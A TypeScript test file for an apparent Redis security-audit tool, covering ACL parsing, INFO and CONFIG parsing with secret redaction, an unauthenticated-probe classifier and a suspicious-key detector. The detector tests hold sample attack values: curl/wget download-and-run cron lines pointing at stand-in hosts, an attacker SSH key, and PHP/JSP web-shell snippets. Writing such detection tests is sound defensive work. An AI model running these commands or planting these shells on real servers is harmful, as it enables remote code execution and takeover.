import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, test } from 'node:test';
import { AclParseError, newAclUser, parseAclListLine } from '../../src/redis/acl-rules.ts';
import type { AclSelector } from '../../src/redis/acl-user.ts';
import { parseInfo } from '../../src/redis/info-lines.ts';
import { aclUsersFromReply, dryRunAllowed, parseAclLog, rootRulesAllow } from '../../src/security/live-acl.ts';
import { CONFIG_FROM_INFO, REDACTED, SECURITY_CONFIG_KEYS } from '../../src/security/live-commands.ts';
import {
  attachRequirepass,
  commandPresence,
  configFromInfo,
  configValuesFromReplies,
  errorstatsFromInfo,
  modulesFromInfo,
  parseModuleList,
  preAclDefaultUser,
  serverFactsFromInfo,
} from '../../src/security/live-replies.ts';
import { parseProcStatus } from '../../src/security/local-facts.ts';
import { suspiciousKeyName, suspiciousValue } from '../../src/security/suspicious-keys.ts';
import { classifyAnswer } from '../../src/security/unauth-probe.ts';

const sha = (s: string) => createHash('sha256').update(s).digest('hex');

describe('ACL LIST lines', () => {
  test('the normalised 7.0 form of a restricted user', () => {
    const p = parseAclListLine(
      `user app on #${sha('pw')} ~app:* %R~ro:* resetchannels &app:* -@all +@read +config|get -flushall`,
    );
    assert.ok(p);
    assert.deepEqual(p, {
      name: 'app',
      enabled: true,
      nopass: false,
      passwordHashes: [sha('pw')],
      plaintextPasswords: [],
      keyPatterns: ['~app:*', '%R~ro:*'],
      channelPatterns: ['app:*'],
      commandRules: ['-@all', '+@read', '+config|get', '-flushall'],
      origin: 'acl-list',
    });
    assert.equal(p.selectors, undefined);
  });

  test('default nopass, allkeys/allchannels/allcommands, off, selectors kept apart', () => {
    const d = parseAclListLine('user default on nopass sanitize-payload ~* &* +@all');
    assert.equal(d?.nopass, true);
    assert.deepEqual(d?.keyPatterns, ['~*']);
    assert.deepEqual(d?.channelPatterns, ['*']);
    const o = parseAclListLine('user old off allkeys allchannels allcommands (~s:* +get) (%W~w:* +set)');
    assert.equal(o?.enabled, false);
    assert.deepEqual(o?.keyPatterns, ['~*']);
    assert.deepEqual(o?.commandRules, ['+@all']);
    assert.deepEqual(o?.selectors, [
      { keyPatterns: ['~s:*'], channelPatterns: [], commandRules: ['+get'] },
      { keyPatterns: ['%W~w:*'], channelPatterns: [], commandRules: ['+set'] },
    ]);
    assert.throws(() => parseAclListLine('garbage'), AclParseError);
    assert.deepEqual(aclUsersFromReply(['garbage']), []);
  });

  test('>password rules (file form) give the plaintext and its hash', () => {
    const p = parseAclListLine('user u on >secret +@all');
    assert.deepEqual(p?.plaintextPasswords, ['secret']);
    assert.deepEqual(p?.passwordHashes, [sha('secret')]);
  });

  test('a reply with several users', () => {
    const users = aclUsersFromReply([
      'user a on nopass ~* +@all',
      `user b on #${sha('b')} (~x +get) -@all`,
      'not a user line',
    ]);
    assert.deepEqual(
      users.map((u) => u.name),
      ['a', 'b'],
    );
    assert.deepEqual(Object.fromEntries(users.filter((u) => u.selectors).map((u) => [u.name, u.selectors])), {
      b: [{ keyPatterns: ['~x'], channelPatterns: [], commandRules: ['+get'] }],
    });
    assert.deepEqual(aclUsersFromReply('nope'), []);
  });
});

describe('ACL LOG, DRYRUN and own-rule evaluation', () => {
  test('ACL LOG entries with the client address, never more', () => {
    const log = parseAclLog([
      [
        'count',
        3,
        'reason',
        'auth',
        'context',
        'toplevel',
        'object',
        'AUTH',
        'username',
        'default',
        'age-seconds',
        '1.5',
        'client-info',
        'id=14 addr=10.0.0.7:54328 laddr=127.0.0.1:6379 fd=7 name= cmd=auth user=default',
      ],
      ['bogus'],
    ]);
    assert.deepEqual(log, [
      {
        reason: 'auth',
        context: 'toplevel',
        object: 'AUTH',
        username: 'default',
        count: 3,
        ageSeconds: 1.5,
        clientAddr: '10.0.0.7:54328',
      },
    ]);
    assert.deepEqual(parseAclLog('nope'), []);
  });

  test('DRYRUN answers: OK, command refused, key refused, errors', () => {
    assert.equal(dryRunAllowed({ ok: true, value: 'OK' }), true);
    assert.equal(
      dryRunAllowed({ ok: true, value: "This user has no permissions to run the 'config|set' command" }),
      false,
    );
    assert.equal(dryRunAllowed({ ok: true, value: "This user has no permissions to access the 'k' key" }), true);
    assert.equal(dryRunAllowed({ ok: false, error: new Error("ERR Command 'flushall' not found") }), undefined);
  });

  test('rootRulesAllow follows the rules in order, by command, subcommand and category', () => {
    const selector: AclSelector = { keyPatterns: ['~x'], channelPatterns: [], commandRules: ['+get'] };
    const rulesAllow = (commandRules: string[], command: string, hasSelectors = false) =>
      rootRulesAllow({ ...newAclUser('u'), commandRules, ...(hasSelectors ? { selectors: [selector] } : {}) }, command);
    assert.equal(rulesAllow(['+@all'], 'config|get'), true);
    assert.equal(rulesAllow(['+@all', '-@dangerous'], 'config|get'), false);
    assert.equal(rulesAllow(['-@all', '+config|get'], 'config|get'), true);
    assert.equal(rulesAllow(['-@all', '+config|set'], 'config|get'), false);
    assert.equal(rulesAllow(['-@all', '+config'], 'config|get'), true);
    assert.equal(rulesAllow(['-@all', '+config|get', '-config'], 'config|get'), false);
    assert.equal(rulesAllow(['-@all', '+@read'], 'config|get'), false);
    assert.equal(rulesAllow(['-@all'], 'config|get', true), undefined, 'a selector may grant it');
  });
});

const INFO = [
  '# Server',
  'redis_version:7.0.15',
  'redis_git_sha1:00000000',
  'redis_build_id:ae4d7c971a948f0',
  'redis_mode:standalone',
  'os:Linux 6.1.0 x86_64',
  'process_id:4242',
  'process_supervised:systemd',
  'tcp_port:6379',
  'executable:/usr/bin/redis-server',
  'config_file:',
  '# Clients',
  'maxclients:10000',
  '# Memory',
  'maxmemory:67108864',
  'maxmemory_policy:allkeys-lru',
  '# Persistence',
  'aof_enabled:1',
  '# Replication',
  'role:slave',
  'slave_read_only:0',
  '# Modules',
  'module:name=search,ver=20809,api=1,filters=0,usedby=[],using=[],options=[]',
  'module:name=ReJSON,ver=20606,api=1,filters=0,usedby=[],using=[],options=[]',
  '# Errorstats',
  'errorstat_NOAUTH:count=3',
  'errorstat_WRONGPASS:count=200917',
  '# Cluster',
  'cluster_enabled:0',
  '',
].join('\r\n');

describe('INFO → facts', () => {
  const fields = parseInfo(INFO).fields;

  test('server facts; an all-zero git sha reads as a possible distro build; empty fields are absent', () => {
    assert.deepEqual(serverFactsFromInfo(fields), {
      version: '7.0.15',
      gitSha1: '00000000',
      buildId: 'ae4d7c971a948f0',
      mode: 'standalone',
      os: 'Linux 6.1.0 x86_64',
      processId: 4242,
      supervised: 'systemd',
      executable: '/usr/bin/redis-server',
      tcpPort: 6379,
      distroBuild: true,
    });
    assert.equal(
      serverFactsFromInfo(
        new Map([
          ['redis_version', '7.2.4'],
          ['redis_git_sha1', 'a1b2c3d4'],
        ]),
      )?.distroBuild,
      false,
    );
    assert.equal(serverFactsFromInfo(new Map())?.version, undefined);
    assert.equal(
      serverFactsFromInfo(
        new Map([
          ['redis_version', '7.2.4'],
          ['valkey_version', '8.0.1'],
        ]),
      )?.valkeyVersion,
      '8.0.1',
    );
  });

  test('errorstats and modules (every module line, not only the first)', () => {
    assert.deepEqual(errorstatsFromInfo(fields), { NOAUTH: 3, WRONGPASS: 200917 });
    assert.deepEqual(modulesFromInfo(INFO), [
      { name: 'search', version: '20809' },
      { name: 'ReJSON', version: '20606' },
    ]);
  });

  test('CONFIG stand-ins from INFO, each marked as derived', () => {
    const c = configFromInfo(fields);
    assert.deepEqual(c.values, {
      maxmemory: '67108864',
      'maxmemory-policy': 'allkeys-lru',
      maxclients: '10000',
      appendonly: 'yes',
      'cluster-enabled': 'no',
      'replica-read-only': 'no',
    });
    assert.deepEqual(c.derivedFromInfo, Object.keys(c.values));
    for (const { param } of CONFIG_FROM_INFO) assert.ok(SECURITY_CONFIG_KEYS.includes(param as never), param);
  });
});

describe('other replies', () => {
  test('MODULE LIST and COMMAND INFO presence', () => {
    assert.deepEqual(parseModuleList([['name', 'search', 'ver', 20809, 'path', '/x.so', 'args', []]]), [
      { name: 'search', version: '20809' },
    ]);
    assert.deepEqual(parseModuleList([]), []);
    assert.deepEqual(commandPresence(['config', 'flushall'], [['config', -2], null]), {
      config: true,
      flushall: false,
    });
  });

  test('CONFIG GET: secrets are redacted, the plaintext requirepass comes back separately', () => {
    const { values, requirepass } = configValuesFromReplies([
      ['requirepass', 'foobared', 'masterauth', 'm4ster', 'bind', '127.0.0.1'],
      ['MAXMEMORY', '0'],
    ]);
    assert.deepEqual(values, { requirepass: REDACTED, masterauth: REDACTED, bind: '127.0.0.1', maxmemory: '0' });
    assert.equal(requirepass, 'foobared');
    const unset = configValuesFromReplies([['requirepass', '', 'masterauth', '']]);
    assert.deepEqual(unset.values, { requirepass: '', masterauth: '' });
    assert.equal(unset.requirepass, undefined);
  });

  test('the plaintext requirepass goes to the default user only while it is still its password', () => {
    const users = aclUsersFromReply([`user default on #${sha('foobared')} ~* &* +@all`, 'user app on nopass']);
    assert.equal(attachRequirepass(users, 'foobared'), true);
    assert.deepEqual(users[0].plaintextPasswords, ['foobared']);
    assert.deepEqual(users[1].plaintextPasswords, []);
    const changed = aclUsersFromReply([`user default on #${sha('new')} ~* &* +@all`]);
    assert.equal(attachRequirepass(changed, 'foobared'), false, 'stale requirepass after ACL SETUSER');
    assert.deepEqual(changed[0].plaintextPasswords, []);
  });

  test('before ACLs the default user is requirepass with every command', () => {
    assert.equal(preAclDefaultUser(undefined).nopass, true);
    const u = preAclDefaultUser('pw');
    assert.deepEqual([u.nopass, u.passwordHashes, u.commandRules], [false, [sha('pw')], ['+@all']]);
  });
});

describe('outsider probe answers', () => {
  test('PONG, NOAUTH, the renamed-CONFIG oracle, DENIED, other errors, non-RESP', () => {
    assert.deepEqual(classifyAnswer(['+PONG', '*2']), {
      result: 'open',
      configRenamed: false,
      detail: 'PING answered +PONG without AUTH',
    });
    assert.equal(
      classifyAnswer(['-NOAUTH Authentication required.', '-NOAUTH Authentication required.']).configRenamed,
      false,
    );
    const renamed = classifyAnswer([
      '-NOAUTH Authentication required.',
      "-ERR unknown command 'CONFIG', with args beginning with: 'GET' 'dir' ",
    ]);
    assert.equal(renamed.result, 'noauth');
    assert.equal(renamed.configRenamed, true);
    assert.equal(classifyAnswer(['-DENIED Redis is running in protected mode']).result, 'denied');
    assert.deepEqual(classifyAnswer(['-ERR max number of clients reached']), {
      result: 'error',
      detail: 'ERR max number of clients reached',
    });
    assert.equal(classifyAnswer(['HTTP/1.1 400 Bad Request']).result, 'error');
  });
});

describe('local process facts', () => {
  test('/proc status: name and effective uid', () => {
    assert.deepEqual(parseProcStatus('Name:\tredis-server\nUmask:\t0007\nUid:\t110\t111\t110\t110\nGid:\t1\n'), {
      name: 'redis-server',
      uid: 111,
    });
    assert.deepEqual(parseProcStatus(''), { name: undefined, uid: undefined });
  });
});

describe('suspicious keys (RS054)', () => {
  test('names the exploits use', () => {
    for (const k of ['backup1', 'backup4', 'crackit', 'my-ssh-key', 'cron']) assert.ok(suspiciousKeyName(k), k);
    for (const k of ['user:1', 'session:abc', 'crackits']) assert.equal(suspiciousKeyName(k), undefined, k);
  });

  test('cron lines, SSH keys, web shells and download-and-run in value heads', () => {
    assert.match(suspiciousValue('\n\n*/1 * * * * curl -fsSL http://x/y.sh | sh\n\n') ?? '', /cron/);
    assert.match(suspiciousValue('\n\n*/5 * * * * root wget -q -O- http://x | bash\n') ?? '', /cron/);
    assert.match(suspiciousValue('@reboot /tmp/.x/kdevtmpfsi\n') ?? '', /cron/);
    assert.match(suspiciousValue('\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@host\n\n') ?? '', /SSH/);
    assert.match(suspiciousValue('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x') ?? '', /SSH/);
    assert.match(suspiciousValue('\n<?php @eval($_POST["c"]); ?>\n') ?? '', /web-shell/);
    assert.match(suspiciousValue('<%@ page import="java.io.*" %>') ?? '', /web-shell/);
    assert.match(suspiciousValue('x=1; curl http://evil/a.sh | bash') ?? '', /downloads/);
    for (const v of ['1 2 3 4 5 6', 'hello world', '{"a":1}', 'ssh-rsa is a key type', '2024 01 02 03 04 5']) {
      assert.equal(suspiciousValue(v), undefined, v);
    }
  });
});
